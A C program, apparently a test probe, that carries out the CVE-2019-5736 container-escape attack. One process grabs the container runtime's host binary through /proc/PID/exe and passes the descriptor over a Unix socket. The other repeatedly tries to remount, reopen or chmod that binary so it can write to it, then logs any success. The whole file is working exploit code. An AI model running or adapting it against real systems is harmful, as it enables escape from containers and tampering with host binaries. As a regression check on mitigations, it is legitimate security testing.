/* The attack of CVE-2019-5736, in two containers that share a folder:
 *
 *     take send SOCKET DEVICE INODE   waits until a process of the container runs this file, the
 *                                     runtime's, opens it, and passes the descriptor on
 *     take use SOCKET REPORT          takes the descriptor and tries to change the file through it,
 *                                     over and over, until there is a file REPORT.stop
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static char space[CMSG_SPACE(sizeof(int))], byte = 'x';
static struct iovec part = { &byte, 1 };
static struct msghdr message = {
	.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space
};
static struct sockaddr_un address = { .sun_family = AF_UNIX };

static int send_it(unsigned long long device, unsigned long long inode)
{
	struct cmsghdr *control = CMSG_FIRSTHDR(&message);
	char path[300];
	struct stat found;
	struct dirent *entry;
	DIR *processes = opendir("/proc");
	int fd = -1, to = socket(AF_UNIX, SOCK_STREAM, 0);

	while (fd < 0) {
		rewinddir(processes);
		while (fd < 0 && (entry = readdir(processes))) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof path, "/proc/%.20s/exe", entry->d_name);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0 && (fstat(fd, &found) || found.st_dev != device || found.st_ino != inode)) {
				close(fd);
				fd = -1;
			}
		}
	}
	control->cmsg_level = SOL_SOCKET;
	control->cmsg_type = SCM_RIGHTS;
	control->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(control), &fd, sizeof fd);
	if (connect(to, (struct sockaddr *)&address, sizeof address) || sendmsg(to, &message, 0) != 1)
		return 1;
	return pause();
}

struct attributes { unsigned long long set, clear, propagation, users; };

static int use_it(const char *report)
{
	int from, fd, listening = socket(AF_UNIX, SOCK_STREAM, 0);
	char path[64], stop[300], text[2] = "#";
	struct attributes writable = { .clear = 1 };
	struct stat now;
	FILE *said = fopen(report, "w");

	if (!said || bind(listening, (struct sockaddr *)&address, sizeof address) || listen(listening, 1))
		return 1;
	from = accept(listening, NULL, NULL);
	if (recvmsg(from, &message, 0) != 1 || !CMSG_FIRSTHDR(&message))
		return 1;
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	snprintf(stop, sizeof stop, "%s.stop", report);
	fprintf(said, "taken\n");
	fflush(said);
	while (access(stop, F_OK)) {
		int remounted = mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0;
		int set = syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0;
		int copy = syscall(SYS_open_tree, fd, "", 1 /* OPEN_TREE_CLONE */ | AT_EMPTY_PATH);
		int picked = syscall(SYS_fspick, fd, "", 8 /* FSPICK_EMPTY_PATH */);
		int bound = mount(path, report, NULL, MS_BIND, NULL) == 0;
		int changed = fstat(fd, &now) == 0 && fchmod(fd, now.st_mode & 07777) == 0;
		int file = open(path, O_WRONLY | O_APPEND);
		if (remounted | set | (copy >= 0) | (picked >= 0) | bound | changed | (file >= 0)) {
			fprintf(said, "won: remounted %d, set %d, copied %d, picked %d, bound %d, changed %d, opened %d\n",
				remounted, set, copy, picked, bound, changed, file);
			if (file >= 0 && write(file, text, 1) == 1)
				fprintf(said, "written\n");
			break;
		}
		usleep(1000);
	}
	fprintf(said, "the last answer: %s\n", strerrorname_np(errno));
	fprintf(said, "ended\n");
	return fclose(said);
}

int main(int count, char **arguments)
{
	if (count < 4)
		return 2;
	strncpy(address.sun_path, arguments[2], sizeof address.sun_path - 1);
	if (!strcmp(arguments[1], "use"))
		return use_it(arguments[3]);
	return send_it(strtoull(arguments[3], NULL, 10), strtoull(arguments[4], NULL, 10));
}
